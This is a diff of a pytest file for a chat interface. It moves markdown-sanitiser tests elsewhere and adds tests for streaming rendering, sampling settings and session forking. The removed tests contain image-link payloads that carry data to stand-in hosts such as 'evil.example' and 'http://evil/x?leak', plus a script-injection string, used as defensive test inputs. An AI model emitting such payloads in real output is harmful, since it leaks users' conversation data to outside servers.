@@ -16,61 +16,7 @@ from qwen_trt.errors import PromptTooLongError
 from qwen_trt.ui.text import (CURSOR, dropped_note, reply_footer, sanitize_markdown,
                               stable_prefix_end, user_error, waiting_label)
 
-# -- sanitize_markdown --------------------------------------------------------------------------
-
-
-@pytest.mark.parametrize("text, expected", [
-    ("see ![x](https://evil.example/?q=secret)", "see \\![x](https://evil.example/?q=secret)"),
-    ("![a](u) and ![b][ref]\n\n[ref]: https://e.x/i.png", "\\![a](u) and \\![b][ref]\n\n[ref]: https://e.x/i.png"),
-    ("already \\![x](u)", "already \\![x](u)"),           # escaped once: left alone
-    ("slash \\\\![x](u)", "slash \\\\\\![x](u)"),          # "\\" is a literal backslash: still an image
-    ("no images [link](http://a.b) here!", "no images [link](http://a.b) here!"),
-    ("code `![x](u)` stays", "code `!\u2060[x](u)` stays"),      # a joiner: code shows as is
-    ("```md\n![x](u)\n```\nafter ![y](v)", "```md\n![x](u)\n```\nafter \\![y](v)"),
-    ("~~~~\n```\n![x](u)\n~~~~\n![y](v)", "~~~~\n```\n![x](u)\n~~~~\n\\![y](v)"),
-])
-def test_sanitize_neutralises_images_outside_code(text, expected):
-    assert sanitize_markdown(text) == expected
-
-
-def test_sanitize_escapes_html_and_autolinks_outside_code():
-    payload = "Hi <script>alert(1)</script> <img src=x> <http://e/x> **bold** `a<b` ![i](http://e/i)"
-    out = sanitize_markdown(payload)
-    assert out == ("Hi \\<script>alert(1)\\</script> \\<img src=x> \\<http://e/x> **bold** `a<b` "
-                   "\\![i](http://e/i)")
-
-
-def _renders_image(markdown: str) -> bool:
-    from markdown_it import MarkdownIt
-
-    return "<img" in MarkdownIt("commonmark").render(markdown)
-
-
-@pytest.mark.parametrize("text", [
-    "\\`x ![a](http://evil/x?leak) `\n",                       # escaped backtick opens no span
-    "`a\n\n![a](http://evil/x?leak)\n\n`\n",                  # spans do not cross paragraphs
-    "- ```\n  code\n  ```\n![a](http://evil/x?leak)\n",         # fence inside a list item
-    "```x`\n![a](http://evil/x?leak)\n",                        # backtick in info: not a fence
-    "[![i](http://e/i)](http://l)",                              # image inside a link
-    "a\n![x\ny](http://e/z)\nb",                                # image over two lines
-    "![a][r]\n\n[r]: http://e/x\n",                              # reference image
-    "# ![h](http://e/h)\n\n> ![q](http://e/q)\n\n| ![t](http://e/t) |\n",
-])
-def test_no_markdown_layout_lets_an_image_through(text):
-    assert _renders_image(text)            # the payload really is an image...
-    assert not _renders_image(sanitize_markdown(text))   # ...and no longer is
-
-
-@pytest.mark.parametrize("text, expected", [
-    ("costs $5 to $10", "costs \\$5 to \\$10"),
-    ("shell `echo $HOME` and $x", "shell `echo $HOME` and \\$x"),
-    ("```sh\necho $PATH\n```\n", "```sh\necho $PATH\n```\n"),
-    ("already \\$5", "already \\$5"),
-    ("say :red[stop] and :blue-background[x] at 10:30", "say \\:red[stop] and \\:blue-background[x] at 10:30"),
-    ("`:red[x]` is a directive", "`:red[x]` is a directive"),
-])
-def test_dollars_stay_dollars_not_latex(text, expected):
-    assert sanitize_markdown(text) == expected
+# sanitize_markdown: tests/test_markdown_sanitiser.py (and in Chromium, test_markdown_browser.py)
 
 
 # -- stable_prefix_end / StreamView ------------------------------------------------------------
@@ -90,6 +36,8 @@ def test_stable_prefix_end(text, prefix):
 
 
 def test_stream_view_renders_final_blocks_once_and_a_small_tail():
+    from markdown_it import MarkdownIt
+
     view = StreamView()
     pieces = ["Hello", " world.\n", "\nSecond ", "para ![i](http://x/y)", "\n\nThird"]
     blocks, tails = [], []
@@ -97,10 +45,20 @@ def test_stream_view_renders_final_blocks_once_and_a_small_tail():
         u = view.add(p)
         blocks += u.new_blocks
         tails.append(u.tail)
-    assert blocks == ["Hello world.\n\n", "Second para \\![i](http://x/y)\n\n"]
+    assert blocks == [sanitize_markdown("Hello world.\n\n"),
+                      sanitize_markdown("Second para ![i](http://x/y)\n\n")]
+    assert "\\!\\[i\\]" in blocks[1]                   # the image as text
     assert tails[-1] == "Third" + CURSOR
     assert all(t.endswith(CURSOR) for t in tails)
-    assert "".join(blocks) + tails[-1][:-1] == sanitize_markdown("".join(pieces))
+    render = MarkdownIt("commonmark").render        # the blocks read as the whole reply
+    assert render("\n\n".join(blocks + [tails[-1][:-1]])) == \
+        render(sanitize_markdown("".join(pieces)))
+
+
+def test_stream_view_draws_the_cursor_where_the_text_ends():
+    view = StreamView()
+    assert view.add("```py\nx = 1\n").tail == "```py\nx = 1\n" + CURSOR + "\n```"  # in the code
+    assert view.add("```\n").tail.endswith("```\n\n" + CURSOR)     # after it, once closed
 
 
 # -- coalesce -----------------------------------------------------------------------------------
@@ -263,72 +221,6 @@ def test_stream_view_scans_only_the_open_tail_yet_agrees_with_a_full_scan():
             assert view.frozen == stable_prefix_end(full), full
 
 
-# -- the hostile corpus (also rendered in Chromium by tests/test_markdown_browser.py) ------------
-
-from markdown_payloads import ORDINARY, payloads  # noqa: E402
-
-CORPUS = payloads("http://127.0.0.1:9/leak")
-
-
-def _live_images_outside_top_fences(md: str) -> list[int]:
-    """Offsets of every "![" that follows an even run of backslashes and is not inside a fence
-    that starts unindented after a blank line (code in every dialect). Independent of the
-    sanitiser's own parse: a plain line scan."""
-    import re
-
-    lines = re.findall(r"[^\r\n]*(?:\r\n?|\n)|[^\r\n]+", md)
-    live, offset, fence, prev_blank = [], 0, None, True
-    for line in lines:
-        m = re.match(r"(`{3,}|~{3,})", line)
-        if fence is None and m and prev_blank:
-            fence = m.group(1)
-        elif fence is not None:
-            if line.strip(" \t\r\n").startswith(fence[0]) and \
-                    set(line.strip(" \t\r\n")) == {fence[0]} and \
-                    len(line.strip(" \t\r\n")) >= len(fence) and len(line) - len(line.lstrip(" ")) < 4:
-                fence = None
-        else:
-            live += [offset + m.end() - 2 for m in re.finditer(r"(?<!\\)(?:\\\\)*!\[", line)]
-        prev_blank = not line.strip(" \t\r\n")
-        offset += len(line)
-    return live
-
-
-def _render(md: str) -> str:
-    from markdown_it import MarkdownIt
-
-    return MarkdownIt("commonmark", {"maxNesting": 1000}).enable(["table", "strikethrough"]).render(md)
-
-
-@pytest.mark.parametrize("name", sorted(CORPUS))
-def test_hostile_corpus_leaves_no_image_html_latex_or_directive(name):
-    out = sanitize_markdown(CORPUS[name])
-    assert _live_images_outside_top_fences(out) == [], out
-    html = _render(out)
-    for tag in ("<img", "<div", "<details", "<picture", "<source", "<style", "<pre>\n\n"):
-        assert tag not in html, (tag, out)
-    if name == "autolink":                               # shown as text, not a link
-        assert "href" not in html, out
-    if name.startswith(("latex", "directive")):          # no code in these: every $ and :x[ escaped
-        import re
-        assert not re.search(r"(?<!\\)(?:\\\\)*(\$|:[a-z]+(?:-[a-z]+)*\[)", out), out
-
-
-@pytest.mark.parametrize("name", ["footnote", "quote-20", "list-9"])
-def test_issue_payloads_were_live_before(name):
-    assert _live_images_outside_top_fences(CORPUS[name])     # the checker sees the raw payload
-
-
-@pytest.mark.parametrize("name", sorted(ORDINARY))
-def test_ordinary_markdown_stays_as_written(name):
-    text, expected = ORDINARY[name]
-    assert sanitize_markdown(text) == expected
-
-
-def test_sanitize_is_fast_on_deep_nesting():
-    deep = "> " * 5000 + "![x](u)\n" + "- a\n  " * 2000 + "$x$"
-    out = sanitize_markdown(deep)                          # no RecursionError, nothing live
-    assert _live_images_outside_top_fences(out) == []
 # -- reload store, transcript, progress, settings (issue 15) ------------------------------------
 
 def test_session_store_is_bounded_expiring_and_copies():
@@ -438,7 +330,11 @@ def test_settings_make_validated_sampling_params():
     assert keys[:4] == ["max_new_tokens", "temperature", "top_p", "top_k"]
     p = params_from({"max_new_tokens": 256.0, "temperature": 0.2, "top_k": 7})
     assert (p.max_new_tokens, p.temperature, p.top_k, p.top_p) == (256, 0.2, 7, 0.8)
-    assert isinstance(slider_args(SLIDERS[0])["value"], int)
+    from qwen_trt.ui.settings import slider_defaults
+
+    assert "value" not in slider_args(SLIDERS[0])   # the value lives in session state only
+    defaults = slider_defaults()
+    assert isinstance(defaults["max_new_tokens"], int) and defaults["temperature"] == 0.7
     assert set(settings_dict(p)) == set(keys)
     with pytest.raises(ValueError):
         params_from({"top_p": 0.0})                  # checked once, by SamplingParams
@@ -452,3 +348,46 @@ def test_stage_writer_turns_printed_lines_into_stages():
     w.write("[qwen-trt engine] loading weights (1.2 s)\n[qwen-trt engine] capt")
     w.write("uring graphs\n\n")
     assert got == ["loading weights (1.2 s)", "capturing graphs"]
+
+
+def test_session_store_forks_a_save_on_top_of_an_older_version():
+    from qwen_trt.ui.store import SessionStore, new_session_id
+
+    store = SessionStore()
+    sid = new_session_id()
+    a = store.save(sid, {"messages": ["a1"]}, 0)
+    assert (a.sid, a.version, a.forked_from) == (sid, 1, None)
+    b = store.save(sid, {"messages": ["a1", "a2"]}, 1)        # the same tab again
+    assert (b.sid, b.version) == (sid, 2)
+    c = store.save(sid, {"messages": ["a1", "c"]}, 1)          # a tab that saw version 1
+    assert c.sid != sid and c.version == 1 and c.forked_from == sid
+    assert store.get(sid)["messages"] == ["a1", "a2"]          # nothing overwritten
+    assert store.get(sid)["forks"] == [c.sid] and store.forks(sid) == [c.sid]
+    assert store.get(c.sid)["forked_from"] == sid
+    d = store.save(sid, {"messages": ["x"]}, 2)                 # the original goes on
+    assert d.sid == sid and store.get(sid)["forks"] == [c.sid]  # and keeps its links
+    gone = new_session_id()                                     # expired or never saved
+    assert store.save(gone, {}, 5).sid == gone
+
+
+def test_chat_state_save_to_follows_its_fork(tiny_tokenizer):
+    import threading
+
+    from qwen_trt.ui.store import SessionStore, new_session_id
+
+    store = SessionStore()
+    mine, other = ChatState(ChatSession(tiny_tokenizer)), ChatState(ChatSession(tiny_tokenizer))
+    mine.chat_id = new_session_id()
+    mine.chat.add_exchange("q", "a")
+    mine.save_to(store)
+    other.restore(store.get(mine.chat_id), chat_id=mine.chat_id)
+    threads = [threading.Thread(target=mine.save_to, args=(store,)) for _ in range(8)]
+    for th in threads:                          # one tab's concurrent saves never fork
+        th.start()
+    for th in threads:
+        th.join()
+    assert store.forks(mine.chat_id) == [] and mine.version == 9
+    other.chat.add_exchange("q2", "a2")
+    saved = other.save_to(store)
+    assert other.forked_from == mine.chat_id and other.chat_id == saved.sid != mine.chat_id
+    assert len(store.get(other.chat_id)["messages"]) == 4
